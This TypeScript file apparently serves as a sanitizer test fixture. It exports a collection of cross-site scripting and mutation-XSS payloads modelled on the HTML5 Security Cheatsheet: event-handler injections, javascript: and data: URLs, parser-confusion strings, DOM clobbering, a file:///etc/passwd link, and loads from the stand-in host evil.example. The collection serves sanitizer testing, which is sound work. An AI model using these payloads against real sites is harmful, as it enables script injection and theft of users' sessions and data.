/**
 * Attacks in the manner of the HTML5 Security Cheatsheet (html5sec.org) and of published
 * mutation attacks on sanitizers: what changes its meaning between one parser and the next.
 */
export const html5Security: Readonly<Record<string, string>> = {
  formaction: '<form><button formaction="javascript:steal(1)">a</button></form>',
  "a form's action": '<form action="javascript:steal(1)"><input type=submit autofocus onfocus=x()>',
  "autofocus with onfocus": "<input onfocus=steal(1) autofocus><select autofocus onfocus=steal(2)>",
  srcdoc: '<iframe srcdoc="&lt;script&gt;steal(1)&lt;/script&gt;"></iframe>',
  "video and its source":
    '<video><source onerror="steal(1)"></video><audio src=x onerror=steal(2)>',
  "video poster": "<video poster=javascript:steal(1)//></video>",
  "details with ontoggle": "<details open ontoggle=steal(1)><summary>a</summary>b</details>",
  "marquee with onstart": "<marquee onstart=steal(1)>a</marquee>",
  "dirname, list and popover":
    "<input dirname=x popovertarget=y><div popover id=y onbeforetoggle=x()>",
  "xlink in SVG": '<svg><a xlink:href="javascript:steal(1)"><text x=20 y=20>a</text></a></svg>',
  "use in SVG":
    '<svg><use href="data:image/svg+xml,<svg id=x onload=steal(1)></svg>#x"></use></svg>',
  "animate and set in SVG":
    "<svg><a><animate attributeName=href values=javascript:steal(1) /><text>a</text></a><set attributeName=onmouseover to=steal(1)></svg>",
  "script in SVG": "<svg><script>steal&#40;1)</script><script href=//evil.example/></svg>",
  foreignObject: "<svg><foreignObject><iframe onload=steal(1)></iframe></foreignObject></svg>",
  "links in MathML":
    '<math href="javascript:steal(1)">a</math><math><maction actiontype="statusline#x" xlink:href="javascript:steal(2)">b</maction></math>',
  "annotation-xml in MathML":
    '<math><annotation-xml encoding="text/html"><script>steal(1)</script></annotation-xml></math>',
  "mXSS: math, mglyph and style":
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=steal(1)&gt;">',
  "mXSS: form in math":
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal(1)>",
  "mXSS: svg, p and style": '<svg></p><style><a id="</style><img src=1 onerror=steal(1)>">',
  "mXSS: noscript": '<noscript><p title="</noscript><img src=x onerror=steal(1)>">',
  "mXSS: noscript closed from outside":
    "<p><noscript></p><img title='</noscript><img src=x onerror=steal(1)>'>",
  "mXSS: template":
    "<template><s><template><s><img src=x onerror=steal(1)>@shafigullin</s></template></s></template>",
  "mXSS: template in svg": "<svg><template><style></template><img src=x onerror=steal(1)></style>",
  "mXSS: title and textarea":
    '<textarea></textarea/><img src=x onerror=steal(1)></textarea><svg><title><p title="</title><img src=x onerror=steal(1)>">',
  "mXSS: xmp, noembed, noframes, plaintext":
    "<xmp><p title='</xmp><img src=x onerror=steal(1)>'><noembed><img title='</noembed><img src onerror=steal(2)>'><noframes></noframes><plaintext><img src onerror=steal(3)>",
  "mXSS: select and option":
    "<select><style></select><img src=x onerror=steal(1)></style><option><img src=x onerror=steal(2)></select>",
  "mXSS: comment ends":
    "<!--><img src=x onerror=steal(1)>--><!--!><img src=x onerror=steal(2)>--!><!-- --!><img src onerror=steal(3)> -->",
  "mXSS: CDATA":
    '<svg><![CDATA[<image xlink:href="]]><img src=x onerror=steal(1)//"></svg><![CDATA[><img src onerror=steal(2)>]]>',
  "mXSS: processing instructions":
    "<?xml <img src=x onerror=steal(1)> ?><!DOCTYPE <img src onerror=steal(2)>>",
  "mXSS: back-ticks and entities":
    "<a href='`x`onmouseover=steal(1)'>a</a><p title='&lt;/p&gt;&lt;img src onerror=steal(1)&gt;'>b</p>",
  "an attribute's name as a way out":
    "<p a/onclick=steal(1)/><p \"onclick=steal(2)><p x='\"><img src onerror=steal(3)>'>",
  "data addresses":
    '<a href="data:text/html,<script>steal(1)</script>">a</a><object data="data:text/html,x"></object>',
  "blob, file and view-source":
    '<a href="blob:https://x/1">a</a><a href="file:///etc/passwd">b</a><a href="view-source:x">c</a>',
  "relative and odd links":
    '<a href="javascript&colon;steal(1)">a</a><a href="\u00a0javascript:steal(1)">b</a><a href="/\t/evil.example">c</a><a href="/./\\evil.example">d</a><a href="/x/..//evil.example">e</a>',
  "clobbering ids and names":
    '<a id=document name=cookie href="/x">a</a><img name=getElementById data-media="01938f5e-0000-7000-8000-000000000000">',
  "style, class and target":
    '<p style="position:fixed;inset:0" class="dialog" dir=rtl contenteditable>a</p><a href="/x" target=_self rel=opener ping=//evil.example download>b</a>',
  "srcset and sizes":
    '<img srcset="https://evil.example/x.png 1x" sizes=1px data-media="01938f5e-0000-7000-8000-000000000000" onload=steal(1)>',
  "an image's id as a way out":
    "<img data-media='01938f5e-0000-7000-8000-000000000000\" onload=\"steal(1)'>",
  "isindex, keygen, meta, link":
    "<isindex action=javascript:steal(1) type=image><keygen autofocus onfocus=steal(2)><link rel=import href=//evil.example><meta name=referrer content=unsafe-url>",
};
